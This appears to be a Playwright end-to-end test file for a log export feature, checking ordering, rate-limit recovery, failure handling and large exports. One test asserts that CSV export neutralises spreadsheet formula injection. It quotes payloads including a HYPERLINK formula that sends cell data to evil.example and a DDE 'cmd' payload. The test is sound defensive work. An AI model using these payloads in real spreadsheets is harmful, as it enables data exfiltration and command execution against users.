import { SERVER_PAGES } from '../../../e2e/log/log-entries'
import { exportCard, exportedIds, startExport } from '../../../e2e/log/log-export-steps'
import { followDownloads, readDownload } from '../../../e2e/support/downloads'
import { expect, test } from '../../document/document-story'

test.use(SERVER_PAGES)

test.describe('as root', () => {
  test.use({ caller: 'root' })

  test('log export: the file contains every entry of the filter once, newest first', async ({
    page,
    world,
  }) => {
    await page.goto('/log?type=2')
    const files = followDownloads(page)
    await startExport(page, 'JSON lines')
    await expect(page.getByText(/^300 rows exported$/)).toBeVisible()
    const ids = exportedIds((await readDownload(files)).text)
    expect(ids).toHaveLength(300)
    expect(ids).toEqual([...ids].toSorted((one, other) => other - one))
    const pageCalls = await world.calls(/GET \/api\/log\/\?/)
    expect(pageCalls.every((call) => call.includes('type=2'))).toBe(true)
    await exportCard(page).getByRole('button', { name: 'Close the report' }).click()
    await expect(page.getByText(/rows exported/)).toBeHidden()
  })

  test.describe('with hostile entries', () => {
    test.use({ seed: 'hostile' })

    test('log export: the CSV file contains no formula and no broken line (PC01 to PC15)', async ({
      page,
    }) => {
      await page.goto('/log')
      const files = followDownloads(page)
      await startExport(page, 'Table (CSV)')
      const text = (await readDownload(files)).text
      expect(
        text.startsWith('\uFEFFTime,Channel,Channel name,User,Token,Type,Model,Prompt,Completion,'),
      ).toBe(true)
      expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?""&A1,""x"")"')
      expect(text).toContain("'-2+3")
      expect(text).toContain("'@SUM(1)")
      expect(text).toContain('"\'\r=1"')
      expect(text).toContain("'=cmd|' /C calc'!A0")
      expect(text).toContain('"a,b"')
      expect(text).toContain('"a\nb"')
      expect(text).toContain('中文')
      expect(text).not.toMatch(/(^|,|\r\n)"?[=@+]/)
    })
  })
})

test('log export: waits during a rate limit and then continues automatically', async ({ page, world }) => {
  await page.clock.install()
  await page.goto('/log')
  await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
  await world.fault({ call: 'GET /api/log/self?p=3', kind: 'F08', seconds: 60, times: 1 })
  const files = followDownloads(page)
  await startExport(page, 'JSON lines')
  await expect(page.getByText(/Too many requests\. Resumes in \d+ s\./).first()).toBeVisible()
  await page.clock.runFor(61_000)
  const text = (await readDownload(files)).text
  expect(text.split('\n').length).toBeGreaterThan(80)
  expect(await world.calls(/self\?p=2&/)).toHaveLength(1)
  expect(await world.calls(/self\?p=3&/)).toHaveLength(2)
})

test('log export: a failure keeps what is written, and offers to go on or stop', async ({ page, world }) => {
  await page.goto('/log')
  await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
  await world.fault({ call: 'GET /api/log/self?p=4', kind: 'refused', message: 'not now' })
  await startExport(page, 'JSON lines')
  await expect(exportCard(page).getByRole('alert')).toContainText('The export stopped after 40 rows. not now')
  await world.clearFaults()
  await world.fault({ call: 'GET /api/log/self?p=6', kind: 'hang' })
  await page.getByRole('button', { name: 'Resume' }).click()
  await expect(page.getByText(/^60 rows, back to/)).toBeVisible()
  await expect(page.getByRole('button', { name: 'Export', exact: true })).toHaveAttribute(
    'aria-disabled',
    'true',
  )
  expect(await world.calls(/self\?p=3&/)).toHaveLength(1)
  await exportCard(page).getByRole('button', { name: 'Stop' }).click()
  await expect(exportCard(page)).toBeHidden()
  await expect(page.getByRole('button', { name: 'Export', exact: true })).toBeFocused()
  await world.clearFaults()
  await expect(page.getByRole('button', { name: 'Export', exact: true })).not.toHaveAttribute(
    'aria-disabled',
    'true',
  )
})

test('log export: a session that ends meanwhile is ended as by any other call', async ({ page, world }) => {
  await page.goto('/log')
  await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
  await world.fault({ call: 'GET /api/log/self?p=4', kind: 'F01' })
  await startExport(page, 'JSON lines')
  await expect(page).toHaveURL(/\/login\?expired=true$/)
})

test.describe('of a long log', () => {
  test.use({ caller: 'root', seed: 'large' })

  test('log export: asks before it reads many entries, and offers a shorter range that is read at once', async ({
    page,
    world,
  }) => {
    await page.goto('/log')
    await expect(page.getByText(/^Consumed in this filter: \$/)).toBeVisible()
    await startExport(page, 'JSON lines')
    const question = page.getByRole('dialog', { name: /^Export about [\d,]+ entries\?$/ })
    const [, told = ''] =
      /This takes (\d+) calls and about \d+ minutes/.exec((await question.textContent()) ?? '') ?? []
    const pageAt = (share: number) =>
      world.call<unknown[]>('GET', `/api/log/?p=${Math.floor(Number(told) * share)}`)
    expect(await pageAt(1)).toEqual([])
    expect(await pageAt(0.9)).not.toEqual([])
    await world.forgetCalls()
    const files = followDownloads(page)
    await question.getByRole('button', { name: /^Only since .*, at once$/ }).click()
    const ids = exportedIds((await readDownload(files)).text)
    expect(ids.length).toBeGreaterThan(1000)
    expect((await world.calls(/GET \/api\/log\/\?/)).length).toBeLessThan(125)
  })
})
